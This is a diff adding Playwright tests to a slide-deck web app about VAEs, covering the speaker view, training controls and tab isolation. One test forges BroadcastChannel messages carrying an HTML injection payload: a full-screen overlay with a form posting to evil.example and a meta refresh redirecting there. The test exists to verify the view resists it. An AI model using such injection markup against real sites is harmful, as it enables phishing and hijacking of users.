@@ -7,7 +7,7 @@ import { after, describe, it } from 'node:test';
 import assert from 'node:assert/strict';
 import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
-import type { Page } from 'playwright-core';
+import type { BrowserContext, Page } from 'playwright-core';
 import { distDir, gotoDeck, openPage, showSlide, startEnv, type DeckEnv } from './harness.ts';
 
 const started = Date.now();
@@ -36,6 +36,22 @@ async function within<T>(ms: number, what: string, p: Promise<T>): Promise<numbe
 }
 
 const currentId = (page: Page) => page.evaluate(() => (window as any).__deck.currentId as string | null);
+
+/** Open the speaker view of `deck` with its S key; resolves once it shows the deck's slide with its notes. */
+async function openSpeaker(context: BrowserContext, deck: Page): Promise<Page> {
+  const [speaker] = await Promise.all([context.waitForEvent('page'), deck.keyboard.press('s')]);
+  await speaker.waitForLoadState('domcontentloaded');
+  await speaker.waitForFunction(() => / · /.test(document.querySelector('[data-role="pos"]')?.textContent ?? ''), null, { timeout: 30_000 });
+  return speaker;
+}
+
+/** What the speaker view shows: position line and notes (text), and whether any form or meta tag got in. */
+const speakerShows = (speaker: Page) =>
+  speaker.evaluate(() => ({
+    pos: document.querySelector('[data-role="pos"]')!.textContent,
+    notes: document.querySelector('[data-role="notes"]')!.textContent,
+    injected: document.querySelectorAll('form, meta[http-equiv="refresh"], #forged').length,
+  }));
 
 describe('a room that misbehaves', () => {
   it('1. a stalled model request blocks no other slide; its slide times out with a notice and a working retry', async () => {
@@ -155,6 +171,103 @@ describe('a room that misbehaves', () => {
         assert.doesNotMatch(body, /minimumFractionDigits|\bNaN\b|Infinity|undefined/, `${id} shows no broken number`);
       }
       assert.deepEqual(problems.errors.filter((e) => /minimumFractionDigits/.test(e)), []);
+    });
+  });
+
+  it('2. a forged speaker message with markup in its notes changes nothing in the speaker view', async () => {
+    await withEnv({}, async (env) => {
+      const { page } = await openPage(env);
+      await gotoDeck(env, page, '', '#/kl-divergence');
+      const speaker = await openSpeaker(env.context, page);
+      const before = await speakerShows(speaker);
+      assert.ok(before.pos!.endsWith((await page.locator('#kl-divergence .slide-title').textContent())!.trim()));
+      assert.equal(before.notes!.trim().slice(0, 60), (await page.locator('#kl-divergence aside.notes').textContent())!.trim().slice(0, 60));
+      const foreign: string[] = [];
+      env.context.on('request', (r) => (new URL(r.url()).hostname === 'evil.example' ? foreign.push(r.url()) : undefined));
+      const pair = new URL(speaker.url()).searchParams.get('pair');
+      const real = await page.evaluate(() => ({ index: (window as any).__deck.ids.indexOf('kl-divergence'), total: (window as any).__deck.ids.length }));
+      const attacker = await env.context.newPage();
+      await attacker.goto(`${env.url}index.html?receiver#/title`); // any page of the same origin
+      await attacker.evaluate(
+        ({ pair, real }) => {
+          const markup =
+            '<div id="forged" style="position:fixed;inset:0;background:#fff;z-index:9"><form action="https://evil.example/"><input name="p"></form></div>' +
+            '<meta http-equiv="refresh" content="0;url=https://evil.example/">';
+          const channel = new BroadcastChannel('vae-deck-speaker');
+          const state = { type: 'state', id: 'kl-divergence', ...real, lang: 'fr', nextId: 'kl-in-vae', title: markup, notes: markup };
+          channel.postMessage(state); // the old format, no pair
+          channel.postMessage({ ...state, pair }); // the right pair, with markup in the text fields
+          channel.postMessage({ ...state, pair, id: '"]<form>', index: 0 });
+        },
+        { pair, real },
+      );
+      await speaker.waitForTimeout(1500);
+      assert.deepEqual(await speakerShows(speaker), before, 'the speaker view shows the same slide, notes and no injected markup');
+      assert.match(speaker.url(), /speaker\.html\?pair=/, 'the speaker window stayed on its page');
+      assert.deepEqual(foreign, []);
+      for (const file of ['index.html', 'speaker.html']) {
+        const csp = /http-equiv="Content-Security-Policy"\s+content="([^"]+)"/.exec(readFileSync(join(distDir, file), 'utf8'))?.[1] ?? '';
+        assert.match(csp, /base-uri 'none'/, `${file} forbids <base>`);
+        assert.match(csp, /form-action 'none'/, `${file} forbids form submission`);
+      }
+      await attacker.close();
+      await speaker.close();
+    });
+  });
+
+  it('6. β and the learning rate set during "Démarrage…" are the ones the worker trains with, and stay on return', async () => {
+    await withEnv({}, async (env) => {
+      const { page } = await openPage(env);
+      // a slow network: the worker's data arrives 3 s late, so the slide stays in "Démarrage…" long enough to act
+      await env.context.route('**/data/mnist-10k.bin', async (route) => {
+        await new Promise((r) => setTimeout(r, 3000));
+        await route.continue();
+      });
+      await gotoDeck(env, page);
+      void showSlide(page, 'training'); // its mount may wait for the worker: act meanwhile
+      const dash = page.locator('#training .tr-dashboard');
+      await page.waitForFunction(() => document.querySelector<HTMLElement>('#training .tr-dashboard')?.dataset.busy === 'true', null, { timeout: 5000 });
+      assert.match(await page.locator('#training').innerText(), /Démarrage/);
+      const set = (sel: string, value: string) =>
+        page.locator(`#training ${sel}`).evaluate((el: HTMLInputElement, v) => {
+          el.value = v;
+          el.dispatchEvent(new Event('input', { bubbles: true }));
+        }, value);
+      await set('.tr-beta', '2.5');
+      await set('.tr-lr', '-3.5');
+      assert.equal(await dash.getAttribute('data-busy'), 'true', 'both were set while the worker was starting');
+      await page.waitForSelector('#training .tr-dashboard[data-ready="true"]', { timeout: 60_000 });
+      await page.click('#training .tr-play');
+      await page.waitForFunction(() => !!document.querySelector<HTMLElement>('#training .tr-dashboard')?.dataset.lastLr, null, { timeout: 30_000 });
+      await page.click('#training .tr-play'); // pause
+      assert.equal(Number(await dash.getAttribute('data-last-beta')), 2.5, 'the worker trains with β = 2.5');
+      assert.ok(Math.abs(Number(await dash.getAttribute('data-last-lr')) / 10 ** -3.5 - 1) < 1e-6, 'the worker trains with lr = 10^-3.5');
+      await showSlide(page, 'generation-demo');
+      await showSlide(page, 'training');
+      assert.equal(await page.locator('#training .tr-beta').inputValue(), '2.5', 'β is kept on return');
+      assert.equal(Number(await page.locator('#training .tr-lr').inputValue()), -3.5, 'the learning rate is kept on return');
+    });
+  });
+
+  it('7. two deck tabs, one speaker view: it shows and drives only the deck that opened it', async () => {
+    await withEnv({}, async (env) => {
+      const { page: mine } = await openPage(env);
+      const { page: other } = await openPage(env);
+      await gotoDeck(env, mine, '', '#/kl-divergence');
+      await gotoDeck(env, other, '', '#/gaussian-nd');
+      const speaker = await openSpeaker(env.context, mine);
+      const klTitle = (await mine.locator('#kl-divergence .slide-title').textContent())!.trim();
+      assert.ok((await speakerShows(speaker)).pos!.endsWith(klTitle), 'it shows the slide of the deck that opened it');
+      await showSlide(other, 'generating'); // the other deck moves: nothing changes in this speaker view
+      await speaker.waitForTimeout(800);
+      assert.ok((await speakerShows(speaker)).pos!.endsWith(klTitle), 'the other deck does not move this speaker view');
+      await speaker.keyboard.press('ArrowRight');
+      await mine.waitForFunction(() => (window as any).__deck.currentId === 'kl-in-vae', null, { timeout: 5000 });
+      const next = (await mine.locator('#kl-in-vae .slide-title').textContent())!.trim();
+      await speaker.waitForFunction((t) => document.querySelector('[data-role="pos"]')!.textContent!.endsWith(t), next, { timeout: 10_000 });
+      await other.waitForTimeout(500);
+      assert.equal(await currentId(other), 'generating', 'the other deck is not driven by this speaker view');
+      await speaker.close();
     });
   });
 
